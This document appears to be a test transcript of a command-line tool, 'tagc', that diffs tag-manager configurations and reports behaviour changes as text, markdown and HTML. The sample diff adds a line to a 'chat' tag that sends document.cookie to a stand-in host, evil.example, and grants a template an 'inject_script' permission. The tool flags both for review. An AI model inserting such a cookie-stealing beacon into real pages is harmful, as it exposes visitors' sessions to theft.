# One line in the middle of 80 is shown, with what is about it; new hosts are named.
$ tagc diff old.json new.json
  old.json → new.json: behaviour (3 behaviour)
  (behaviour: the tags that fire, the data that is sent, or unevaluated code and settings; cosmetic: only people see it)
  .
  ~ tag 'chat' [behaviour]
      ~ html: 1 of 82 lines changed
          @@ line 40
              var line39 = 39;
              var line40 = 40;
          -   var kept = 41;
          +   new Image().src = 'https://evil.example/steal?c=' + document.cookie;
              var line42 = 42;
              var line43 = 43;
      + now names evil.example
  + tag 'map', html [behaviour]
      ! fires on {"event": "purchase"}
      + now names maps.example
  ~ template 'Beacon' [behaviour]
      ~ code: 1 of 30 lines changed (not evaluated by tagc)
          @@ line 18
            const a18 = 18;
            const a19 = 19;
          - const a20 = 20;
          + const a20 = 21;
            const a21 = 21;
            const a22 = 22;
      ~ permissions: "[]" → "[{\"publicId\": \"inject_script\"}]" (not evaluated by tagc)
      + tests: "- name: new" [cosmetic]
  .
  1 tag fires as before, by its triggers (proved), 2 tags depend on settings or code that changed and that tagc does not evaluate ('chat', 'beacon')
= 1
$ tagc diff old.json new.json --format markdown
  **old.json → new.json: behaviour (3 behaviour)**
  .
  **behaviour** (the tags that fire, the data that is sent, or unevaluated code and settings)
  .
  - `~` tag 'chat'
    - `~` html: 1 of 82 lines changed
  .
      <details><summary>7 lines</summary>
  .
      ```diff
      @@ line 40
          var line39 = 39;
          var line40 = 40;
      -   var kept = 41;
      +   new Image().src = 'https://evil.example/steal?c=' + document.cookie;
          var line42 = 42;
          var line43 = 43;
      ```
  .
      </details>
  .
    - `+` now names evil.example
  - `+` tag 'map', html
    - `!` fires on \{"event": "purchase"\}
    - `+` now names maps.example
  - `~` template 'Beacon'
    - `~` code: 1 of 30 lines changed (not evaluated by tagc)
  .
      <details><summary>7 lines</summary>
  .
      ```diff
      @@ line 18
        const a18 = 18;
        const a19 = 19;
      - const a20 = 20;
      + const a20 = 21;
        const a21 = 21;
        const a22 = 22;
      ```
  .
      </details>
  .
    - `~` permissions: "\[\]" → "\[\{\\"publicId\\": \\"inject\_script\\"\}\]" (not evaluated by tagc)
    - `+` tests: "- name: new" (cosmetic)
  .
  1 tag fires as before, by its triggers (proved), 2 tags depend on settings or code that changed and that tagc does not evaluate ('chat', 'beacon')
= 1
$ tagc diff old.json new.json --format html | sed '1,/<h1>/d'
  </header>
  <main>
  <p>behaviour (3 behaviour)</p>
  <p><small>behaviour: the tags that fire, the data that is sent, or unevaluated code and settings; cosmetic: only people see it</small></p>
  <section class="behaviour"><h2>~ tag 'chat' <small>behaviour</small></h2>
  <ul>
  <li>~ html: 1 of 82 lines changed<details><summary>7 lines</summary><pre>@@ line 40
      var line39 = 39;
      var line40 = 40;
  <del>-   var kept = 41;</del><ins>+   new Image().src = 'https://evil.example/steal?c=' + document.cookie;</ins>    var line42 = 42;
      var line43 = 43;
  </pre></details></li>
  <li>+ now names evil.example</li>
  </ul>
  </section>
  <section class="behaviour"><h2>+ tag 'map', html <small>behaviour</small></h2>
  <ul>
  <li>! fires on {&quot;event&quot;: &quot;purchase&quot;}</li>
  <li>+ now names maps.example</li>
  </ul>
  </section>
  <section class="behaviour"><h2>~ template 'Beacon' <small>behaviour</small></h2>
  <ul>
  <li>~ code: 1 of 30 lines changed (not evaluated by tagc)<details><summary>7 lines</summary><pre>@@ line 18
    const a18 = 18;
    const a19 = 19;
  <del>- const a20 = 20;</del><ins>+ const a20 = 21;</ins>  const a21 = 21;
    const a22 = 22;
  </pre></details></li>
  <li>~ permissions: &quot;[]&quot; → &quot;[{\&quot;publicId\&quot;: \&quot;inject_script\&quot;}]&quot; (not evaluated by tagc)</li>
  <li>+ tests: &quot;- name: new&quot; <small>cosmetic</small></li>
  </ul>
  </section>
  <p>1 tag fires as before, by its triggers (proved), 2 tags depend on settings or code that changed and that tagc does not evaluate ('chat', 'beacon')</p>
  </main>
  </body>
  </html>
